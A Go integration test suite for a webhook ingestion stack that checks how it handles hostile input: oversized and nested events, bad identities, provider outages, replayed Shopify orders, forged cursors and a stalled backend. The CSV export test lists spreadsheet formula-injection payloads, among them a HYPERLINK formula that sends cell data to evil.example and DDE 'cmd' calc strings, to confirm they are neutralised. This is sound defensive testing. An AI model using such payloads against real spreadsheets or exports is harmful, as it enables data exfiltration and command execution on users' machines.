package localstack_test

// The hostile-input suite: each probe of "nothing accepted is lost, nothing
// unkeepable is retried forever" sent over HTTP to the local stack, the way
// an attacker, a broken provider or a flaky network would send it.

import (
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ocxhq/ocx/events"
	"github.com/ocxhq/ocx/infra/config"
	"github.com/ocxhq/ocx/internal/channel"
	"github.com/ocxhq/ocx/internal/channel/shopify"
	"github.com/ocxhq/ocx/internal/channel/standardwebhooks"
	"github.com/ocxhq/ocx/internal/customer"
	"github.com/ocxhq/ocx/internal/deadletter"
	"github.com/ocxhq/ocx/internal/httpjson"
	"github.com/ocxhq/ocx/internal/ingest"
	"github.com/ocxhq/ocx/internal/localstack"
)

// hostile is a stack on every channel's demo secrets with a clock the test
// moves, posting Slack messages to a stand-in that can be taken down.
type hostile struct {
	t      *testing.T
	st     *localstack.Stack
	chans  map[string]channel.Channel
	slack  *outage
	offset *atomic.Int64
	base   time.Time
}

func newHostile(t *testing.T) *hostile {
	t.Helper()
	list, err := channel.Load(config.Shipped, "channels.yaml")
	if err != nil {
		t.Fatal(err)
	}
	h := &hostile{t: t, chans: map[string]channel.Channel{}, slack: &outage{}, offset: &atomic.Int64{}, base: time.Now().UTC()}
	for _, c := range list {
		h.chans[c.ID] = c
	}
	srv := httptest.NewServer(h.slack)
	t.Cleanup(srv.Close)
	st, err := localstack.Start(context.Background(), localstack.Config{
		HTTPAddr: "127.0.0.1:0", StateDir: t.TempDir(), SlackURL: srv.URL, APIToken: "test-token",
		RollupEvery: time.Hour, EmailFrom: localstack.DefaultFrom, Log: quietLog(),
		Now: func() time.Time { return h.now() },
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(st.Stop)
	h.st = st
	return h
}

func (h *hostile) now() time.Time { return h.base.Add(time.Duration(h.offset.Load())) }

// post signs body as channel id's provider does, adds headers, and posts it.
func (h *hostile) post(id string, body []byte, headers map[string]string) (int, []byte, http.Header) {
	h.t.Helper()
	ch := h.chans[id]
	req := channel.Request{Header: http.Header{"Content-Type": {"application/json"}}, Body: body, URL: h.st.URL + "/v1/webhooks/" + id}
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	if err := ch.Kind.(channel.Signer).Sign(&req, h.st.ChannelSecrets[id].Sign, h.now()); err != nil {
		h.t.Fatal(err)
	}
	hr, _ := http.NewRequest("POST", req.URL, strings.NewReader(string(body)))
	hr.Header = req.Header
	resp, err := http.DefaultClient.Do(hr)
	if err != nil {
		h.t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, raw, resp.Header
}

// app posts an in-house event (or array) under webhook id msg.
func (h *hostile) app(msg, body string) (int, []byte) {
	h.t.Helper()
	code, raw, _ := h.post("app", []byte(body), map[string]string{standardwebhooks.HeaderID: msg})
	return code, raw
}

func (h *hostile) get(path string, out any) int {
	h.t.Helper()
	req, _ := http.NewRequest("GET", h.st.URL+path, nil)
	req.Header.Set("Authorization", "Bearer test-token")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		h.t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	if out != nil {
		if err := json.Unmarshal(raw, out); err != nil {
			h.t.Fatalf("GET %s: %d %.300s", path, resp.StatusCode, raw)
		}
	}
	return resp.StatusCode
}

// badRow finds the quarantined row of a delivery, by its id or, for a body
// refused before it was parsed (so keyed by its digest), by its reason.
func (h *hostile) badRow(channelID, delivery string) ingest.BadRow {
	h.t.Helper()
	var page ingest.BadRowsPage
	if code := h.get("/v1/badrows?limit=500&channel="+channelID, &page); code != 200 {
		h.t.Fatalf("badrows: %d", code)
	}
	for _, r := range page.BadRows {
		if r.DeliveryID == delivery || len(r.Reasons) > 0 && strings.Contains(r.Reasons[0].Reason, delivery) {
			return r
		}
	}
	h.t.Fatalf("no bad row for %s delivery %q among %d", channelID, delivery, len(page.BadRows))
	return ingest.BadRow{}
}

// noDeadLetters fails if anything reached a dead-letter queue: accepted
// input must be kept by the pipeline, not parked where nobody looks.
func (h *hostile) noDeadLetters() {
	h.t.Helper()
	idle(h.t, h.st)
	var page deadletter.Page
	if code := h.get("/v1/deadletters", &page); code != 200 || page.Total != 0 {
		var what []string
		for _, q := range page.Queues {
			for _, l := range q.Letters {
				what = append(what, q.Name+": "+l.DetailType+" "+l.Error)
			}
		}
		h.t.Fatalf("dead letters (%d): %v", page.Total, what)
	}
}

func errorOf(t *testing.T, raw []byte, status int) string {
	t.Helper()
	var e httpjson.ErrorBody
	if err := json.Unmarshal(raw, &e); err != nil || e.Error.Status != status {
		t.Fatalf("error body %.300s, want status %d", raw, status)
	}
	return e.Error.Message
}

// inhouse is an in-house event that occurred a minute ago on the stack's clock.
func (h *hostile) inhouse(typ, cust, attrs string) string {
	if attrs == "" {
		attrs = "{}"
	}
	return `{"type":"` + typ + `","customer":` + cust + `,"occurred_at":"` + h.now().Add(-time.Minute).Format(time.RFC3339) + `","attributes":` + attrs + `}`
}

// Finding 1: input the pipeline cannot keep as sent is decided at the edge
// (never 503): too deep or with an unkeyable type it is refused with a
// quarantined copy; too large for a bus entry it travels by reference; a
// provider batch's bad items are quarantined within one item and its good
// items published.
func TestHostileUnkeepableInputNever503(t *testing.T) {
	h := newHostile(t)

	// 300 KB event: over EventBridge's 256 KiB entry, under the 1 MiB body.
	var notes []string
	for i := range 12 {
		notes = append(notes, fmt.Sprintf(`"note%02d":"%s"`, i, strings.Repeat("n", 25<<10)))
	}
	big := h.inhouse("order.created", `{"id":"big-1","email":"big@example.com"}`, `{`+strings.Join(notes, ",")+`,"order_id":"o-big"}`)
	code, raw := h.app("msg_big", big)
	if code != 202 || len(big) < 262000 {
		t.Fatalf("%d-byte event: %d %s, want 202", len(big), code, raw)
	}
	var acc ingest.Accepted
	_ = json.Unmarshal(raw, &acc)
	idle(h.t, h.st)
	var v customer.View
	if lookup(t, h.st, "email:big@example.com", &v); len(v.Interactions) != 1 || v.Interactions[0].ID != acc.EventIDs[0] {
		t.Fatalf("claim-checked event not stored: %d interactions", len(v.Interactions))
	}

	cases := []struct {
		name, body, message string
		status              int
	}{
		{"nested 5,000 deep", h.inhouse("a.b", `{"id":"u1"}`, `{"x":`+strings.Repeat("[", 5000)+strings.Repeat("]", 5000)+`}`), "nested deeper than 32 levels", 400},
		{"10,000-character type", h.inhouse("a."+strings.Repeat("b", 10000), `{"id":"u1"}`, ""), "over the 128-byte limit", 400},
		{"1,001 events", "[" + strings.TrimSuffix(strings.Repeat(h.inhouse("a.b", `{"id":"u1"}`, "")+",", 1001), ",") + "]", "1001 events in one request", 413},
	}
	for i, c := range cases {
		msg := fmt.Sprint("msg_bad_", i)
		code, raw := h.app(msg, c.body)
		if code != c.status || !strings.Contains(errorOf(t, raw, c.status), c.message) {
			t.Fatalf("%s: %d %.300s", c.name, code, raw)
		}
		// Found by its message: a body refused before parsing is keyed by
		// its digest, having no delivery id yet.
		if row := h.badRow("app", c.message); row.Raw == "" || row.State != ingest.StateQuarantined {
			t.Fatalf("%s: bad row %+v", c.name, row)
		}
	}

	// Values the pipeline keys on (journey instances, rule keys, metric
	// dimensions), absurdly long but within the string limit: accepted, and
	// kept without a dead letter (checked at the end).
	long := strings.Repeat("9", 5000)
	if code, raw := h.app("msg_long_keys", h.inhouse("order.created", `{"id":"long-1"}`, `{"order_id":"`+long+`","plan":"`+long+`","ticket_id":"`+long+`"}`)); code != 202 {
		t.Fatalf("long key values: %d %s", code, raw)
	}

	// SendGrid: 3,000 items it cannot map and three good ones in one batch.
	var items []string
	for i := range 3000 {
		items = append(items, fmt.Sprintf(`{"email":"u%d@example.com","timestamp":%d,"event":"teleported","sg_event_id":"bad-%d-%s"}`, i, h.now().Unix(), i, strings.Repeat("x", 60)))
	}
	for i := range 3 {
		items = append(items, fmt.Sprintf(`{"email":"good%d@example.com","timestamp":%d,"event":"delivered","sg_event_id":"good-%d","sg_message_id":"m%d"}`, i, h.now().Unix(), i, i))
	}
	start := time.Now()
	code, raw, _ = h.post("sendgrid", []byte("["+strings.Join(items, ",")+"]"), nil)
	took := time.Since(start)
	acc = ingest.Accepted{}
	_ = json.Unmarshal(raw, &acc)
	if code != 202 || acc.Quarantined != 3000 || len(acc.EventIDs) != 3 {
		t.Fatalf("sendgrid batch: %d %.300s", code, raw)
	}
	t.Logf("sendgrid batch of 3,003 items answered in %s", took)
	idle(h.t, h.st)
	for i := range 3 {
		if lookup(t, h.st, fmt.Sprintf("email:good%d@example.com", i), &v); len(v.Interactions) != 1 {
			t.Fatalf("good item %d of the batch not stored", i)
		}
	}
	var page ingest.BadRowsPage
	h.get("/v1/badrows?channel=sendgrid", &page)
	if len(page.BadRows) != 1 || len(page.BadRows[0].Reasons)+page.BadRows[0].OmittedReasons != 3000 || page.BadRows[0].Raw == "" {
		t.Fatalf("sendgrid bad rows: %d", len(page.BadRows))
	}
	h.noDeadLetters()
}

// Finding 2: identity values the journey function cannot use are dropped
// at arrival with a reason, the event kept on its other keys; an event left
// without any is refused with a quarantined copy. Nothing reaches a
// dead-letter queue.
func TestHostileIdentitiesValidatedAtArrival(t *testing.T) {
	h := newHostile(t)
	bad := map[string]string{
		"not-an-email":     `"email":"not-an-email"`,
		"a@":               `"email":"a@"`,
		"national number":  `"phone":"07946 000000"`,
		"+0":               `"phone":"+0"`,
		"blank id":         `"id":" "`,
		"5,000-char email": `"email":"` + strings.Repeat("a", 5000) + `@example.com"`,
	}
	i := 0
	for name, field := range bad {
		i++
		who := fmt.Sprintf("idv-%d@example.com", i)
		msg := fmt.Sprint("msg_id_kept_", i)
		cust := `{` + field + `,"email":"` + who + `"}`
		if strings.HasPrefix(field, `"email"`) {
			cust = fmt.Sprintf(`{%s,"id":"idv-%d"}`, field, i)
		}
		code, raw := h.app(msg, h.inhouse("ticket.created", cust, ""))
		if code != 202 {
			t.Fatalf("%s with another key: %d %s, want 202", name, code, raw)
		}
		row := h.badRow("app", msg)
		if len(row.Reasons) != 1 || !row.Reasons[0].Kept || !strings.Contains(row.Reasons[0].Reason, "dropped") {
			t.Fatalf("%s: reasons %+v", name, row.Reasons)
		}
		code, raw = h.app(fmt.Sprint("msg_id_alone_", i), h.inhouse("ticket.created", "{"+field+"}", ""))
		if code != 400 || !strings.Contains(errorOf(t, raw, 400), "no usable customer identity") {
			t.Fatalf("%s alone: %d %s, want 400", name, code, raw)
		}
		h.badRow("app", fmt.Sprint("msg_id_alone_", i))
	}
	idle(h.t, h.st)
	var v customer.View
	if lookup(t, h.st, "app:idv-1", &v); len(v.Interactions) == 0 {
		// Keyed on whichever key remained; look the first one up both ways.
		if lookup(t, h.st, "email:idv-1@example.com", &v); len(v.Interactions) == 0 {
			t.Fatal("event with a dropped identity not stored under its other key")
		}
	}
	h.noDeadLetters()
}

// Finding 3: Slack down for a minute during a burst. Nothing is
// dead-lettered; once Slack is back every group is delivered exactly once,
// within minutes, not at its 4-hour reminder.
func TestHostileSlackOutageOfAMinute(t *testing.T) {
	h := newHostile(t)
	h.slack.setDown(true)
	t0 := h.now()
	rules := []struct{ rule, team, channel string }{
		{"nps.detractor", "cx-support", "app"}, {"payment.failed", "payments", "stripe"}, {"order.stalled", "logistics", "shopify"},
	}
	for i := range 60 {
		r := rules[i%len(rules)]
		publish(t, h.st, events.TypeFailureDetected, failureOf(fmt.Sprintf("flr_out_%02d", i), r.rule, r.team, "warning", r.channel, fmt.Sprint("c-", i), t0))
	}
	h.offset.Store(int64(time.Minute))
	flushNotifications(t, h.st)
	if n := h.slack.delivered(); n != 0 {
		t.Fatalf("%d posts while Slack was down", n)
	}
	if h.slack.attempts() == 0 {
		t.Fatal("Slack was not even tried")
	}
	h.noDeadLetters()

	h.slack.setDown(false)
	for m := 2; m <= 6; m++ {
		h.offset.Store(int64(time.Duration(m) * time.Minute))
		flushNotifications(t, h.st)
	}
	texts := h.slack.texts()
	if len(texts) != len(rules) {
		t.Fatalf("%d posts after Slack came back, want one per group (%d)", len(texts), len(rules))
	}
	// And nothing more until a reminder is due.
	h.offset.Store(int64(90 * time.Minute))
	flushNotifications(t, h.st)
	if n := h.slack.delivered(); n != len(rules) {
		t.Fatalf("%d posts by 90 minutes, want %d", n, len(rules))
	}
	h.noDeadLetters()
}

// Finding 4: a customer attribute set through a webhook that would start a
// formula comes out of the CSV export as text.
func TestHostileCSVExportIsSpreadsheetSafe(t *testing.T) {
	h := newHostile(t)
	plans := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}
	for i, p := range plans {
		attrs, _ := json.Marshal(map[string]any{"survey": "nps", "score": 3, "plan": p})
		if code, raw := h.app(fmt.Sprint("msg_csv_", i), h.inhouse(events.TypeSurveyResponded, fmt.Sprintf(`{"id":"csv-%d"}`, i), string(attrs))); code != 202 {
			t.Fatalf("%d %s", code, raw)
		}
	}
	idle(h.t, h.st)
	if err := h.st.Tick(context.Background(), "rollup"); err != nil {
		t.Fatal(err)
	}
	q := url.Values{"granularity": {"hour"}, "group_by": {"plan"},
		"from": {h.now().Add(-2 * time.Hour).Format(time.RFC3339)}, "to": {h.now().Add(time.Hour).Format(time.RFC3339)}}
	req, _ := http.NewRequest("GET", h.st.URL+"/v1/metrics/nps?"+q.Encode(), nil)
	req.Header.Set("Authorization", "Bearer test-token")
	req.Header.Set("Accept", "text/csv")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	rows, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil || resp.StatusCode != 200 || len(rows) < 2 {
		t.Fatalf("csv: %d rows, %v, status %d", len(rows), err, resp.StatusCode)
	}
	col := slices.Index(rows[0], "plan")
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		if !strings.HasPrefix(r[col], "'") || !slices.Contains(plans, r[col][1:]) {
			t.Fatalf("plan cell %q is not neutralised", r[col])
		}
		seen[r[col][1:]] = true
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Fatalf("cell %q would start a formula", cell)
			}
		}
	}
	if len(seen) != len(plans) {
		t.Fatalf("export has %d of the %d plans", len(seen), len(plans))
	}
}

// Finding 5: Shopify signs only the body. A captured order replayed under
// new delivery ids is the same delivery; replayed under another topic it is
// refused; a signed order whose body contradicts its topic is quarantined.
func TestHostileShopifyReplayAndForgery(t *testing.T) {
	h := newHostile(t)
	order := []byte(fmt.Sprintf(`{"id":820982911946154999,"email":"shop@example.com","created_at":%q,"total_price":"9.00","currency":"EUR","cancelled_at":null}`, h.now().Add(-time.Minute).Format(time.RFC3339)))
	hdr := func(topic, id string) map[string]string {
		return map[string]string{shopify.HeaderTopic: topic, shopify.HeaderWebhookID: id, shopify.HeaderEventID: id}
	}
	code, raw, _ := h.post("shopify", order, hdr("orders/create", "w-1"))
	var first, again ingest.Accepted
	_ = json.Unmarshal(raw, &first)
	if code != 202 || len(first.EventIDs) != 1 {
		t.Fatalf("order: %d %s", code, raw)
	}
	code, raw, _ = h.post("shopify", order, hdr("orders/create", "w-2-replayed"))
	_ = json.Unmarshal(raw, &again)
	if code != 200 || !again.Duplicate || again.EventIDs[0] != first.EventIDs[0] {
		t.Fatalf("replay under new ids: %d %s, want 200 duplicate of the first", code, raw)
	}
	// The captured order as a cancellation: its body says it was never
	// cancelled, so it maps to nothing and is only quarantined.
	code, raw, _ = h.post("shopify", order, hdr("orders/cancelled", "w-3-forged"))
	_ = json.Unmarshal(raw, &again)
	if code != 202 || again.Quarantined != 1 || len(again.EventIDs) != 0 {
		t.Fatalf("order that was never cancelled sent as a cancellation: %d %s", code, raw)
	}
	// A captured cancellation (its body does carry cancelled_at) replayed
	// as a new order maps, and is refused as a body seen under another topic.
	cancelled := []byte(strings.Replace(strings.Replace(string(order), "820982911946154999", "820982911946155000", 1),
		`"cancelled_at":null`, fmt.Sprintf(`"cancelled_at":%q`, h.now().Format(time.RFC3339)), 1))
	if code, raw, _ = h.post("shopify", cancelled, hdr("orders/cancelled", "w-4")); code != 202 {
		t.Fatalf("cancellation: %d %s", code, raw)
	}
	code, raw, _ = h.post("shopify", cancelled, hdr("orders/create", "w-4-forged"))
	if code != 400 || !strings.Contains(errorOf(t, raw, 400), `already received as "order.cancelled"`) {
		t.Fatalf("cancellation replayed as an order: %d %s, want 400", code, raw)
	}
	// Shopify sends a new order's body under orders/updated (ignored) as
	// well as orders/create: the ignored copy published nothing, so the
	// create that follows is no replay.
	twin := []byte(strings.Replace(string(order), "820982911946154999", "820982911946155001", 1))
	if code, raw, _ = h.post("shopify", twin, hdr("orders/updated", "w-5")); code != 202 {
		t.Fatalf("orders/updated: %d %s", code, raw)
	}
	if code, raw, _ = h.post("shopify", twin, hdr("orders/create", "w-6")); code != 202 {
		t.Fatalf("orders/create of a body first seen as orders/updated: %d %s", code, raw)
	}
	idle(h.t, h.st)
	var v customer.View
	var types []string
	lookup(t, h.st, "email:shop@example.com", &v)
	for _, i := range v.Interactions {
		types = append(types, i.Type)
	}
	slices.Sort(types)
	if strings.Join(types, ",") != "order.cancelled,order.created,order.created" {
		t.Fatalf("customer's interactions %v, want two orders and one cancellation", types)
	}
}

// Finding 6: the smaller ones an operator meets.
func TestHostileCursorsRetryAfterAndReadiness(t *testing.T) {
	h := newHostile(t)
	forged := base64.RawURLEncoding.EncodeToString([]byte(`{"pk":"delivery#app#x","sk":"delivery","gsi1pk":"badrows#quarantined","gsi1sk":"z"}`))
	for _, c := range []string{"not-ours", forged} {
		req, _ := http.NewRequest("GET", h.st.URL+"/v1/badrows?cursor="+url.QueryEscape(c), nil)
		req.Header.Set("Authorization", "Bearer test-token")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 400 || !strings.Contains(errorOf(t, raw, 400), "cursor") {
			t.Fatalf("cursor %q: %d %s", c, resp.StatusCode, raw)
		}
	}
	// A retry while the first attempt still works is processed too (there
	// is no claim to wait for): it publishes the same event ids, and once
	// either is done a retry is answered as a duplicate.
	batch := "[" + strings.TrimSuffix(strings.Repeat(h.inhouse("order.viewed", `{"id":"busy-1"}`, "")+",", 1000), ",") + "]"
	type answer struct {
		code int
		ids  string
	}
	idsOf := func(code int, raw []byte) answer {
		var a struct {
			EventIDs []string `json:"event_ids"`
		}
		_ = json.Unmarshal(raw, &a)
		return answer{code, strings.Join(a.EventIDs, ",")}
	}
	first := make(chan answer, 1)
	go func() {
		code, raw, _ := h.post("app", []byte(batch), map[string]string{standardwebhooks.HeaderID: "msg_busy"})
		first <- idsOf(code, raw)
	}()
	time.Sleep(50 * time.Millisecond)
	code, raw, _ := h.post("app", []byte(batch), map[string]string{standardwebhooks.HeaderID: "msg_busy"})
	overlap, orig := idsOf(code, raw), <-first
	if orig.code != 202 || orig.ids == "" || (overlap.code != 202 && overlap.code != 200) || overlap.ids != orig.ids {
		t.Fatalf("overlapping attempts: %d and %d, same ids %v; want 202 and 202 or 200 with the first's ids", orig.code, overlap.code, overlap.ids == orig.ids)
	}
	if code, raw, _ := h.post("app", []byte(batch), map[string]string{standardwebhooks.HeaderID: "msg_busy"}); code != 200 || idsOf(code, raw).ids != orig.ids {
		t.Fatalf("retry after both attempts: %d, want 200 with the same ids", code)
	}

	resp, err := http.Get(h.st.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	raw, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.Contains(string(raw), `"metrics table":"ok"`) {
		t.Fatalf("healthz: %d %s", resp.StatusCode, raw)
	}
}

// outage is a Slack incoming webhook that answers 503 while down.
type outage struct {
	mu    sync.Mutex
	down  bool
	tries int
	posts []string
}

func (o *outage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	o.mu.Lock()
	defer o.mu.Unlock()
	o.tries++
	if o.down {
		http.Error(w, "service unavailable", http.StatusServiceUnavailable)
		return
	}
	var m struct {
		Text string `json:"text"`
	}
	_ = json.Unmarshal(body, &m)
	o.posts = append(o.posts, m.Text)
	_, _ = io.WriteString(w, "ok")
}

func (o *outage) setDown(v bool)  { o.mu.Lock(); o.down = v; o.mu.Unlock() }
func (o *outage) delivered() int  { o.mu.Lock(); defer o.mu.Unlock(); return len(o.posts) }
func (o *outage) attempts() int   { o.mu.Lock(); defer o.mu.Unlock(); return o.tries }
func (o *outage) texts() []string { o.mu.Lock(); defer o.mu.Unlock(); return slices.Clone(o.posts) }

// What a function fails on lands on its dead-letter queue, is listed with
// why, and one redrive puts it back on the bus (here it fails again, as
// nothing was fixed, and is listed again).
func TestHostileDeadLettersListedAndRedriven(t *testing.T) {
	h := newHostile(t)
	f := failureOf("flr_orphan", "nps.detractor", "no-such-team", "warning", "app", "c-1", h.now())
	publish(t, h.st, events.TypeFailureDetected, f)
	idle(h.t, h.st)
	var page deadletter.Page
	if code := h.get("/v1/deadletters", &page); code != 200 || page.Total != 1 {
		t.Fatalf("dead letters: %d %+v", code, page)
	}
	var letter deadletter.Letter
	for _, q := range page.Queues {
		if len(q.Letters) == 1 {
			letter = q.Letters[0]
		}
	}
	if letter.Kind != deadletter.KindEvent || letter.EventID != "flr_orphan" || letter.DetailType != events.TypeFailureDetected || !strings.Contains(letter.Error, "no-such-team") {
		t.Fatalf("letter %+v", letter)
	}
	req, _ := http.NewRequest("POST", h.st.URL+"/v1/deadletters/redrive", nil)
	req.Header.Set("Authorization", "Bearer test-token")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var res deadletter.Result
	_ = json.NewDecoder(resp.Body).Decode(&res)
	resp.Body.Close()
	if resp.StatusCode != 200 || res.Redriven != 1 {
		t.Fatalf("redrive: %d %+v", resp.StatusCode, res)
	}
	idle(h.t, h.st)
	if code := h.get("/v1/deadletters", &page); code != 200 || page.Total != 1 {
		t.Fatalf("after a redrive that fails again: %d %+v", code, page)
	}
}

// freeze stalls the emulator the way a frozen backend stalls: a request
// whose body never arrives holds the serializing proxy in front of moto, so
// every other AWS call waits. thaw ends it.
func freeze(t *testing.T, moto string) (thaw func()) {
	t.Helper()
	u, err := url.Parse(moto)
	if err != nil {
		t.Fatal(err)
	}
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	_, err = fmt.Fprintf(conn, "POST / HTTP/1.1\r\nHost: %s\r\nX-Amz-Target: DynamoDB_20120810.ListTables\r\nContent-Type: application/x-amz-json-1.0\r\nContent-Length: 100\r\n\r\n{", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	return func() { conn.Close() }
}

// Finding 6: a stalled backend. Senders get 503 with Retry-After before
// API Gateway's 30 s would have cut them off, /healthz says not ready, and
// both recover when the backend does.
func TestHostileStalledBackendIsBounded(t *testing.T) {
	h := newHostile(t)
	client := &http.Client{Timeout: 29 * time.Second} // what API Gateway would wait
	thaw := freeze(t, h.st.Moto)
	defer thaw()
	resp, err := client.Get(h.st.URL + "/healthz")
	if err != nil {
		t.Fatalf("healthz while frozen: %v", err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 503 || resp.Header.Get("Retry-After") == "" {
		t.Fatalf("healthz while frozen: %d %s", resp.StatusCode, raw)
	}
	body := h.inhouse("order.created", `{"id":"frozen-1"}`, "")
	req := channel.Request{Header: http.Header{"Content-Type": {"application/json"}, standardwebhooks.HeaderID: {"msg_frozen"}}, Body: []byte(body), URL: h.st.URL + "/v1/webhooks/app"}
	if err := h.chans["app"].Kind.(channel.Signer).Sign(&req, h.st.ChannelSecrets["app"].Sign, h.now()); err != nil {
		t.Fatal(err)
	}
	hr, _ := http.NewRequest("POST", req.URL, strings.NewReader(body))
	hr.Header = req.Header
	resp, err = client.Do(hr)
	if err != nil {
		t.Fatalf("webhook while frozen: %v", err)
	}
	raw, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 503 || resp.Header.Get("Retry-After") == "" {
		t.Fatalf("webhook while frozen: %d %s", resp.StatusCode, raw)
	}
	errorOf(t, raw, 503)
	thaw()
	if code, raw := h.app("msg_frozen", body); code != 202 {
		t.Fatalf("the sender's retry after the thaw: %d %s", code, raw)
	}
	resp, err = client.Get(h.st.URL + "/healthz")
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("healthz after the thaw: %v %v", resp, err)
	}
	resp.Body.Close()
}
